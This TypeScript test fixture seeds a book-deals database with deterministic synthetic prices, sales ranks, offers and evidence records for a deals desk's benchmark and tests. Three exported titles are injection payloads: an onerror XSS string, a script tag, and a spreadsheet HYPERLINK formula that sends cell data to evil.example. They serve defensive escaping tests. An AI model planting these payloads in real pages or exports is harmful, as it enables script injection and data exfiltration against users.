// Saved deals for the deals desk's benchmark and tests: varied prices, ranks, seasons and
// conditions, every 10th one not visible, three with hostile titles, each with the evidence an
// analysis keeps. Deterministic: deal i is the same in every run.
import { type DealEvidence, encodeEvidence } from '../src/pipeline/evidence.js';
import type { Store } from '../src/state/store.js';

export const DAY = 86_400_000;
export const NOW = Date.UTC(2026, 10, 20, 12);
export const XSS_TITLE = '"><img src=x onerror=alert(1)>';
export const SCRIPT_TITLE = '<script>alert("desk")</script> Organic Chemistry';
export const FORMULA_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"click")';

const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
const SEASONS = ['Year-round', 'Textbook (Summer)', 'Textbook (Winter)', 'Holiday', 'Gardening'];
const CONDITIONS = ['Used - Like New', 'Used - Very Good', 'Used - Good', 'Used - Acceptable'];
const WORDS = ['Calculus', 'Biology', 'Gardening', 'History', 'Chemistry', 'Poems', 'Law', 'Nursing', 'Economics', 'Statistics'];
const AUTHORS = ['Ada Byron', 'Rosa Parks', 'Alan Turing', 'Mary Shelley', 'Carl Sagan'];

export function asinOf(i: number): string {
  return `B0DESK${String(i).padStart(4, '0')}`;
}

/** Deterministic noise in [0, 1) for deal i and field k. */
function noise(i: number, k: number): number {
  const x = Math.sin(i * 12.9898 + k * 78.233) * 43758.5453;
  return x - Math.floor(x);
}

export function evidenceFor(i: number, listAt: number, nowMs: number): DealEvidence {
  const sales = Array.from({ length: 3 + (i % 9) }, (_, k) => {
    const atMs = nowMs - Math.round((20 + k * 97 + (i % 13) * 7) * DAY);
    return { atMs, priceCents: Math.round(listAt * 100 * (0.8 + noise(i, k + 10) * 0.3)), month: new Date(atMs).getUTCMonth(), condition: 'Used' as const };
  }).sort((a, b) => a.atMs - b.atMs);
  const usedPrice: Array<[number, number]> = [];
  const salesRank: Array<[number, number]> = [];
  for (let k = 0; k < 120; k++) {
    const atMs = nowMs - (120 - k) * 9 * DAY;
    usedPrice.push([atMs, k % 37 === 5 ? -1 : Math.round(listAt * 60 * (0.7 + noise(i, k) * 0.6))]);
    salesRank.push([atMs, Math.round(20_000 + noise(i, k + 200) * 900_000)]);
  }
  return {
    version: 1,
    analyzedAtMs: nowMs - DAY,
    sales,
    usedPrice,
    salesRank,
    offers: [
      { sellerId: `SELLER${i % 7}`, condition: CONDITIONS[i % 4] ?? 'Used - Good', priceCents: Math.round(listAt * 40), shippingCents: 399, fba: false },
      { sellerId: 'AFBASELLER', condition: 'Used - Very Good', priceCents: Math.round(listAt * 55), shippingCents: null, fba: true },
    ],
    offersAtMs: nowMs - DAY,
    costs: { prepFee: 2.75, estimatedShipping: 3.99, taxPercent: 5, taxExempt: false, markupPercent: 10 },
  };
}

/** Deals `from`..`from + n - 1`; 0, 1 and 2 carry the hostile titles, every 10th is not visible (negative profit). */
export function saveDeals(store: Store, n: number, options: { from?: number; evidence?: boolean; nowMs?: number } = {}): void {
  const nowMs = options.nowMs ?? NOW;
  const from = options.from ?? 0;
  const insert = store.db.transaction(() => {
    for (let i = from; i < from + n; i++) {
      const asin = asinOf(i);
      const price = Math.round((4 + noise(i, 1) * 30) * 100) / 100;
      const listAt = Math.round((price * (1.6 + noise(i, 2) * 2.2) + 14) * 100) / 100;
      const allIn = Math.round((price * 1.05 + 2.75 + 3.99) * 100) / 100;
      const fees = Math.round((5.5 + listAt * 0.15) * 100) / 100;
      const profit = i % 10 === 9 ? -Math.round(noise(i, 3) * 500) / 100 - 0.5 : Math.round((listAt - allIn - fees) * 100) / 100;
      const title = i === 0 ? XSS_TITLE : i === 1 ? SCRIPT_TITLE : i === 2 ? FORMULA_TITLE : `${WORDS[i % WORDS.length]} for Everyone, volume ${i}`;
      store.deals.upsert(
        {
          ASIN: asin,
          Title: title,
          Author: AUTHORS[i % AUTHORS.length] ?? null,
          Condition: CONDITIONS[i % CONDITIONS.length] ?? null,
          Price_Now: price,
          Shipping_Included: 'yes',
          List_at: listAt,
          '1yr_Avg': Math.round(listAt * 0.9 * 100) / 100,
          All_in_Cost: allIn,
          Total_AMZ_fees: fees,
          FBA_PickandPack_Fee: 5.5,
          Referral_Fee_Percent: 15,
          Profit: profit,
          Margin: Math.round((profit / listAt) * 10_000) / 100,
          Min_Listing_Price: Math.round(((allIn + 5.5) / 0.75) * 100) / 100,
          Sales_Rank_Current: Math.round(5_000 + noise(i, 4) * 2_000_000),
          Sales_Rank_Drops_last_365_days: 6 + (i % 40),
          Seasonality_Type: SEASONS[i % SEASONS.length] ?? null,
        },
        nowMs - (i % 300) * 3_600_000,
        'full',
      );
      if (options.evidence === false) continue;
      const ev = evidenceFor(i, listAt, nowMs);
      const top = ev.sales.reduce((a, b) => ((b.priceCents ?? 0) > (a.priceCents ?? 0) ? b : a));
      store.deals.upsert({ ASIN: asin, Peak_Season: MONTHS[top.month] ?? null }, nowMs - (i % 300) * 3_600_000, 'full');
      store.evidence.save(asin, ev.sales.filter((s) => s.atMs > nowMs - 365 * DAY).length, encodeEvidence(ev), nowMs - DAY);
    }
  });
  insert();
}
